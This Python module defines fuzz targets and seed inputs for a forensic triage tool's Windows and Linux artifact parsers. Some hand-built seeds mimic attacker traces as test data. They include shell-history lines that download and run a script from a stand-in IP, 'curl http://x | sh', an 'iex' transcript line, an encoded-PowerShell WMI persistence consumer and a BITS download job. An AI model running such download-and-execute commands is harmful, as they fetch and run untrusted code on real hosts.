"""Fuzz targets: every artifact parser, and the bundle reader / verifier / recovery, each a function
of one byte string, with seeds from ../shared/corpus.

A target's contract is the project's: bad input is an Issue (or a verification problem), never an
exception. Any exception escaping a target is a finding; ``run.py`` saves the input, and the input
becomes a regression case under ``regressions/<target>/`` replayed by ``test_fuzz_regressions.py``.

Used by ``run.py`` (atheris, coverage-guided) and by the regression test (plain replay).
"""

from __future__ import annotations

import shutil
import struct
import tempfile
import zipfile
from collections.abc import Callable
from dataclasses import dataclass
from pathlib import Path

HERE = Path(__file__).resolve().parent
REPO = HERE.parents[1]
CORPUS = (REPO / ".." / "shared" / "corpus").resolve()
MAX_SEED_BYTES = 256 << 10        # larger corpus files make slow mutations; they are left out
MAX_OUTPUTS = 20_000              # records read from one input before moving on


@dataclass(frozen=True)
class Target:
    name: str
    run: Callable[[bytes], None]
    seeds: Callable[[], list[bytes]]


_SCRATCH = Path(tempfile.mkdtemp(prefix="triage-fuzz-"))


def _scratch_file(data: bytes, rel: str) -> Path:
    """``data`` as a file named like the artifact (some parsers read the name), in a fresh dir."""
    d = Path(tempfile.mkdtemp(dir=_SCRATCH))
    path = d / rel.rsplit("/", 1)[-1]
    path.write_bytes(data)
    return path


def _parser_target(module: str, cls: str, rel: str) -> Callable[[bytes], None]:
    def run(data: bytes) -> None:
        import importlib

        from triage.parsers.base import input_from_file

        parser = getattr(importlib.import_module(module), cls)()
        path = _scratch_file(data, rel)
        try:
            item = input_from_file(path, rel)
            for n, _ in enumerate(parser.parse(item)):
                if n >= MAX_OUTPUTS:
                    break
        finally:
            shutil.rmtree(path.parent, ignore_errors=True)
    return run


def _corpus(*globs: str) -> Callable[[], list[bytes]]:
    def seeds() -> list[bytes]:
        out = []
        for g in globs:
            for p in sorted(CORPUS.glob(g)):
                if p.is_file() and 0 < p.stat().st_size <= MAX_SEED_BYTES:
                    out.append(p.read_bytes())
        return out
    return seeds


def _recycle_seeds() -> list[bytes]:
    """No $I file in the corpus: the two on-disk layouts, built per the format."""
    ft = 133_540_000_000_000_000
    path = "C:\\Users\\ann\\Documents\\plan.docx"
    v1 = struct.pack("<qQQ", 1, 1234, ft) + path.encode("utf-16-le").ljust(520, b"\0")
    text = path + "\0"
    v2 = struct.pack("<qQQI", 2, 1234, ft, len(text)) + text.encode("utf-16-le")
    return [v1, v2]


def _srum_seeds() -> list[bytes]:
    """Every corpus SRUDB.dat is larger than the seed cap: its first pages (header, catalog, the id map's
    first pages) seed the ESE reader instead."""
    return [p.read_bytes()[:MAX_SEED_BYTES] for p in sorted(CORPUS.glob("srum/*/SRUDB.dat"))[:2]]


def _task_seeds() -> list[bytes]:
    xml = ('<?xml version="1.0" encoding="UTF-16"?>\r\n<Task version="1.2" '
           'xmlns="http://schemas.microsoft.com/windows/2004/02/mit/task"><RegistrationInfo><Date>'
           '2024-01-02T03:04:05</Date><Author>x\\y</Author></RegistrationInfo><Triggers><LogonTrigger>'
           '<Enabled>true</Enabled></LogonTrigger></Triggers><Actions Context="Author"><Exec><Command>'
           'C:\\Users\\Public\\u.exe</Command><Arguments>-a b</Arguments></Exec></Actions></Task>')
    return [b"\xff\xfe" + xml.encode("utf-16-le"), xml.replace("UTF-16", "UTF-8").encode()]


def _history_seeds() -> list[bytes]:
    return [b"whoami\r\nInvoke-WebRequest http://198.51.100.7/a.ps1 -OutFile a.ps1\r\n. .\\a.ps1 `\r\n  -x\r\n",
            b": 1700000000:0;ls -la\n: 1700000001:0;curl http://x | sh\n"]


def _linux_seeds(kind: str) -> Callable[[], list[bytes]]:
    """Seeds for the Linux parsers, written per the formats (tests/_linux_host.py lays out the same)."""
    def seeds() -> list[bytes]:
        import sys

        sys.path.insert(0, str(HERE.parent))
        import _linux_host as L

        if kind == "utmp":
            from datetime import UTC, datetime

            t = datetime(2026, 1, 1, tzinfo=UTC)
            return [L.utmp_record(7, 1, "pts/0", "root", "h", t, "192.0.2.1") + L.utmp_record(2, 0, "~", "reboot", "", t),
                    L.utmp_record(6, 2, "ssh:notty", "x", "2001:db8::1", t, "2001:db8::1")]
        if kind == "syslog":
            text = "\n".join(L.auth_log_lines()) + "\n"
            return [text.encode(), b"2026-01-02T08:00:01.1+01:00 h CRON[1]: (a) CMD (x)\n"]
        if kind == "keys":
            import base64

            key = base64.b64encode(L.ED25519_BLOB)
            return [b"ssh-ed25519 " + key + b" c\n" + b'command="a \\"b\\"",no-pty ssh-ed25519 ' + key + b"\n"]
        return [b'{"captured": "2026-01-05T10:00:00Z", "data": [{"pid": 1, "exe": "/x", "exe_deleted": true, '
                b'"cmdline": ["a"], "started": "2026-01-05T09:00:00Z"}]}']
    return seeds


def _head(*globs: str, size: int = 64 << 10) -> Callable[[], list[bytes]]:
    """The first ``size`` bytes of large corpus text logs (whole files make slow mutations)."""
    def seeds() -> list[bytes]:
        return [p.read_bytes()[:size] for g in globs for p in sorted(CORPUS.glob(g)) if p.is_file()]
    return seeds


def _job_seeds() -> list[bytes]:
    """No .job file in the corpus: one laid out per MS-TSCH (fixed section, strings, one trigger)."""
    def u(s: str) -> bytes:
        return struct.pack("<H", len(s) + 1) + (s + "\0").encode("utf-16-le")
    var = b"\0\0" + u("C:\\Users\\Public\\a.exe") + u("-x") + u("C:\\") + u("me") + u("") + b"\0\0" + b"\0\0"
    var += struct.pack("<H", 1) + struct.pack("<10HIIII6H", 48, 0, 2024, 1, 2, 0, 0, 0, 9, 0, 0, 0, 0, 1, 1, 0, 0, 0, 0, 0)
    fixed = struct.pack("<HH16sHHHHHHIIIII8H", 0x0601, 1, b"\1" * 16, 70, 68 + len(var) - 50, 0, 0, 0, 0, 32, 0, 0,
                        0x41300, 0, 2024, 1, 2, 2, 3, 4, 5, 6)
    return [fixed + var, fixed]


def _text_seeds() -> list[bytes]:
    """A PowerShell transcript (UTF-8 and UTF-16) and an OBJECTS.DATA-like blob with a consumer instance."""
    t = ("**********************\r\nWindows PowerShell transcript start\r\nStart time: 20240102030405\r\n"
         "Username: H\\u\r\nMachine: H (Microsoft Windows NT 10.0)\r\n**********************\r\n"
         "PS C:\\> whoami\r\nh\\u\r\nPS>iex $x\r\n**********************\r\n"
         "Windows PowerShell transcript end\r\nEnd time: 20240102030500\r\n")
    return [t.encode(), b"\xff\xfe" + t.encode("utf-16-le")]


def _wmi_seeds() -> list[bytes]:
    inst = b"CommandLineEventConsumer\0\0\0\x08Updater\0\0powershell.exe -enc AAAA\0"
    bind = b'__FilterToConsumerBinding\0\0CommandLineEventConsumer.Name="Updater"\0__EventFilter.Name="F"\0'
    return [b"\0" * 512 + inst + b"\0" * 64 + bind, inst.decode("latin-1").encode("utf-16-le")]


def _bits_seeds() -> list[bytes]:
    """No BITS queue in the corpus: UTF-16 job strings between binary bytes, as qmgr0.dat keeps them."""
    strings = ("Updates", "C:\\Users\\Public\\a.exe", "https://198.51.100.7/a.exe", "\\\\srv\\s\\b.ttf")
    return [b"".join(b"\x01\x02" * 9 + x.encode("utf-16-le") + b"\0\0" for x in strings)]


def _triggers_run(data: bytes) -> None:
    from triage.parsers.registry.taskcache_trigger_decode import decode_triggers

    decode_triggers(data)  # takes bytes, never raises


def _triggers_seeds() -> list[bytes]:
    """TaskCache Triggers values built per the layout (no corpus hive holds a TaskCache)."""
    import sys

    sys.path.insert(0, str(HERE.parent))
    import _task_triggers as tt

    return [tt.header() + tt.logon_trigger("S-1-5-21-1-2-3-1001", "D\\u") + tt.generic(0xFFFF)
            + tt.time_trigger(mode=2, data=(1, 2, 0)) + tt.event_trigger("<QueryList/>") + tt.session_trigger(5),
            tt.header(0x15) + tt.generic(0xFFFF, version=0x15)]


def _bundle_seeds() -> list[bytes]:
    """Two real bundles written by the collector's own writer from small corpus files: one closed
    (central directory, manifest) and the same cut short (as after kill -9)."""
    import hashlib
    import io
    import json

    from triage.bundle.manifest import COLLECTED, ManifestEntry
    from triage.bundle.writer import BundleWriter, json_bytes

    files = [p for g in ("prefetch/artemis-win10/*.pf", "lnk/ez-win10/*.lnk") for p in sorted(CORPUS.glob(g))[:2]]
    class _Keep(io.BytesIO):
        def close(self) -> None:   # the writer closes its file; the bytes are wanted afterwards
            pass

    buf = _Keep()
    w = BundleWriter(buf, compression="deflate")
    entries = []
    for i, p in enumerate(files):
        data = p.read_bytes()
        member = f"files/C/Seeds/{p.name}"
        res = w.add_stream(member, iter([data]))
        e = ManifestEntry(path=f"C:\\Seeds\\{p.name}", volume="C", bundle_path=member, artifact="seed", priority=1,
                          outcome=COLLECTED, size=res.size, sha256=res.hashes["sha256"], seq=i)
        w.journal(e.to_json())
        entries.append(e)
    cut = buf.getvalue()
    manifest = "".join(e.to_json() + "\n" for e in entries).encode()
    w.add_bytes("meta/manifest.jsonl", manifest)
    w.add_bytes("meta/collection.json", json_bytes({"status": "complete", "hostname": "seed",
                                                    "manifest_sha256": hashlib.sha256(manifest).hexdigest()}))
    w.close()
    return [buf.getvalue(), cut, json.dumps({"not": "a zip"}).encode()]


def _bundle_run(data: bytes) -> None:
    from triage.bundle.reader import BundleReader
    from triage.bundle.recover import recover_bundle
    from triage.bundle.verify import verify_bundle

    path = _scratch_file(data, "host_20260101T000000Z.zip")
    try:
        report = verify_bundle(path)
        with BundleReader(path) as b:
            b.names()
            for e in b.entries[:50]:
                if e.bundle_path:
                    try:
                        with b.open(e.bundle_path) as fh:
                            while fh.read(1 << 20):
                                pass
                    except (KeyError, OSError, EOFError, ValueError, zipfile.BadZipFile):
                        pass          # unreadable members are what verify reports; reading must not crash
        if report.incomplete and not report.encrypted:
            recover_bundle(path, path.parent / "recovered")
    finally:
        shutil.rmtree(path.parent, ignore_errors=True)


TARGETS: dict[str, Target] = {t.name: t for t in (
    Target("bundle", _bundle_run, _bundle_seeds),
    Target("evtx", _parser_target("triage.parsers.evtx.parser", "EvtxParser", "Windows/System32/winevt/Logs/System.evtx"),
           _corpus("evtx/*/*.evtx", "evtx/truncated/*")),
    Target("registry", _parser_target("triage.parsers.registry.parser", "RegistryParser", "Users/u/NTUSER.DAT"),
           _corpus("registry/*/*", "registry/corrupted/*")),
    Target("prefetch", _parser_target("triage.parsers.prefetch", "PrefetchParser",
                                      "Windows/Prefetch/CMD.EXE-4A81B364.pf"),
           _corpus("prefetch/artemis-win10/*.pf", "prefetch/corrupted/*", "prefetch/ez-bad/*", "prefetch/*/*.pf")),
    Target("chromium", _parser_target("triage.parsers.browser.chromium", "ChromiumHistoryParser",
                                      "Users/u/AppData/Local/Google/Chrome/User Data/Default/History"),
           _corpus("browser/chrome/*/History", "browser/truncated/*")),
    Target("firefox", _parser_target("triage.parsers.browser.firefox", "FirefoxHistoryParser",
                                     "Users/u/AppData/Roaming/Mozilla/Firefox/Profiles/p/places.sqlite"),
           _corpus("browser/firefox/*/places.sqlite")),
    Target("pe", _parser_target("triage.parsers.pe", "PEParser", "Users/Public/u.exe"), _corpus("pe/*/*")),
    Target("recycle_bin", _parser_target("triage.parsers.recyclebin", "RecycleBinParser",
                                         "$Recycle.Bin/S-1-5-21-1-2-3-1001/$IAB12CD.txt"), _recycle_seeds),
    Target("shell_history", _parser_target("triage.parsers.history", "ShellHistoryParser",
                                           "Users/u/AppData/Roaming/Microsoft/Windows/PowerShell/PSReadLine/"
                                           "ConsoleHost_history.txt"), _history_seeds),
    Target("startup", _parser_target("triage.parsers.startup", "StartupFolderParser",
                                     "Users/u/AppData/Roaming/Microsoft/Windows/Start Menu/Programs/Startup/a.lnk"),
           _corpus("lnk/*/*.lnk")),
    Target("linux_utmp", _parser_target("triage.parsers.linux.utmp", "UtmpParser", "var/log/wtmp"),
           _linux_seeds("utmp")),
    Target("linux_syslog", _parser_target("triage.parsers.linux.syslog", "SyslogParser", "var/log/auth.log"),
           _linux_seeds("syslog")),
    Target("linux_authorized_keys", _parser_target("triage.parsers.linux.ssh_keys", "AuthorizedKeysParser",
                                                   "home/a/.ssh/authorized_keys"), _linux_seeds("keys")),
    Target("live_snapshot", _parser_target("triage.parsers.linux.live", "LiveSnapshotParser",
                                           "volatile/processes.json"), _linux_seeds("live")),
    Target("task_xml", _parser_target("triage.parsers.tasks", "TaskXmlParser", "Windows/System32/Tasks/Updater"),
           _task_seeds),
    Target("defender_mplog", _parser_target("triage.parsers.defender_mplog", "DefenderMpLogParser",
                                            "ProgramData/Microsoft/Windows Defender/Support/MPLog-1.log"),
           _head("defender/*/MPLog-*.log", "defender/*/Support/MPLog-*.log")),
    Target("defender_history", _parser_target("triage.parsers.defender_history", "DefenderDetectionHistoryParser",
                                              "ProgramData/Microsoft/Windows Defender/Scans/History/Service/"
                                              "DetectionHistory/00/X"),
           _corpus("defender/*/Scans/History/Service/DetectionHistory/*/*")),
    Target("setupapi", _parser_target("triage.parsers.setupapi", "SetupApiParser", "Windows/INF/setupapi.dev.log"),
           _head("setupapi/*/setupapi.dev.log")),
    Target("task_job", _parser_target("triage.parsers.job_files", "JobFileParser", "Windows/Tasks/a.job"), _job_seeds),
    Target("powershell_transcript", _parser_target("triage.parsers.ps_transcript", "PowerShellTranscriptParser",
                                                   "Users/u/Documents/PowerShell_transcript.H.x.20240102030405.txt"),
           _text_seeds),
    Target("wmi_repository", _parser_target("triage.parsers.wmi_repository", "WmiRepositoryParser",
                                            "Windows/System32/wbem/Repository/OBJECTS.DATA"), _wmi_seeds),
    Target("bits_queue", _parser_target("triage.parsers.bits_queue", "BitsQueueParser",
                                        "ProgramData/Microsoft/Network/Downloader/qmgr0.dat"), _bits_seeds),
    Target("lnk", _parser_target("triage.parsers.lnk", "LnkParser",
                                 "Users/u/AppData/Roaming/Microsoft/Windows/Recent/a.lnk"), _corpus("lnk/*/*.lnk")),
    Target("jumplist_automatic", _parser_target(
        "triage.parsers.jumplist", "JumpListParser",
        "Users/u/AppData/Roaming/Microsoft/Windows/Recent/AutomaticDestinations/1b4dd67f29cb1962.automaticDestinations-ms"),
        _corpus("jumplists/*/*.automaticDestinations-ms")),
    Target("jumplist_custom", _parser_target(
        "triage.parsers.jumplist", "JumpListParser",
        "Users/u/AppData/Roaming/Microsoft/Windows/Recent/CustomDestinations/5afe4de1b92fc382.customDestinations-ms"),
        _corpus("jumplists/*/*.customDestinations-ms")),
    Target("taskcache_triggers", _triggers_run, _triggers_seeds),
    Target("srum", _parser_target("triage.parsers.srum", "SrumParser", "Windows/System32/sru/SRUDB.dat"), _srum_seeds),
)}


def cleanup() -> None:
    shutil.rmtree(_SCRATCH, ignore_errors=True)


def write_seeds(name: str, dest: Path) -> int:
    """The target's seeds as files in ``dest`` (a libFuzzer corpus directory); how many."""
    dest.mkdir(parents=True, exist_ok=True)
    seeds = TARGETS[name].seeds()
    for i, s in enumerate(seeds):
        (dest / f"seed-{i:04d}").write_bytes(s)
    return len(seeds)


__all__ = ["TARGETS", "Target", "cleanup", "write_seeds"]
